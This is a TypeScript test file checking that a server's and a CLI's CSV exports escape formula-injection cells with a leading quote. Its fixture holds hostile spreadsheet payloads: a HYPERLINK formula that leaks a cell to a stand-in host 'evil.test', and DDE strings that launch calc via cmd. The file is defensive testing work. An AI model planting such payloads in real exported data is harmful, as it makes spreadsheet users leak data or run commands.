/**
 * Attack: text a customer controls (a name, a description, metadata) exported as CSV runs as a
 * formula when the file is opened in a spreadsheet (`=HYPERLINK(…)` leaking other cells, DDE).
 * Every CSV writer (the server's format=csv, the CLI's --format csv) escapes a text cell that
 * starts with =, + , -, @, a tab or a carriage return with a leading ' and quotes it (OWASP);
 * numbers stay numbers. The console's export saves the server's CSV as it comes.
 */
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { createWriter } from '../../src/cli/format.ts';
import { useServer } from '../server/support.ts';
import { parseCsv } from '../support/csv.ts';

const HOSTILE = {
  email: 'csv-attack@example.com',
  name: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  description: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone: '+1-555-0100 x=1',
  balance: -1200,
  metadata: { dde: "-2+3+cmd|' /C calc'!A0", tab: '\t=1+1', cr: '\r=1+1', plain: 'hello', negative: '-12' },
};

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of a CSV text that a spreadsheet would run as a formula. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .flat()
    .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));

const env = useServer();

describe('CSV exports escape formula cells', () => {
  it('the server (format=csv): no cell runs as a formula, each escaped cell is quoted, numbers stay', async () => {
    env.emulator.load('customer', [HOSTILE]);
    const res = await env.server.app.inject({
      url: `/api/connections/demo/entities/Customer?format=csv&filter=${encodeURIComponent("email = 'csv-attack@example.com'")}`,
      headers: env.auth(env.tokens.read),
    });
    expect(res.statusCode).toBe(200);
    expect(formulaCells(res.body)).toEqual([]);
    const [header, row] = parseCsv(res.body);
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell('name')).toBe(`'${HOSTILE.name}`);
    expect(cell('description')).toBe(`'${HOSTILE.description}`);
    expect(cell('metadata.tab')).toBe(`'${HOSTILE.metadata.tab}`);
    expect(cell('metadata.cr')).toBe(`'${HOSTILE.metadata.cr}`);
    expect(cell('metadata.plain')).toBe('hello');
    expect(cell('balance')).toBe('-1200');
    expect(cell('metadata.negative')).toBe('-12');
    // Quoted, so a reader that splits on the separator cannot cut the escape off.
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);
    expect(res.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
  });

  it('the CLI (--format csv) escapes the same way, column names included', async () => {
    const row = {
      id: 'cus_1',
      name: HOSTILE.name,
      phone: HOSTILE.phone,
      'metadata.dde': HOSTILE.metadata.dde,
      balance: -1200,
      '=header': 'a column name is a cell too',
    };
    const out = new PassThrough();
    const chunks: string[] = [];
    out.on('data', (c) => chunks.push(String(c)));
    const writer = createWriter('csv', out);
    await writer.write(row);
    await writer.end();
    const csv = chunks.join('');
    expect(formulaCells(csv)).toEqual([]);
    expect(parseCsv(csv)).toEqual([
      ['id', 'name', 'phone', 'metadata.dde', 'balance', "'=header"],
      [
        'cus_1',
        `'${HOSTILE.name}`,
        `'${HOSTILE.phone}`,
        `'${HOSTILE.metadata.dde}`,
        '-1200',
        'a column name is a cell too',
      ],
    ]);
  });
});
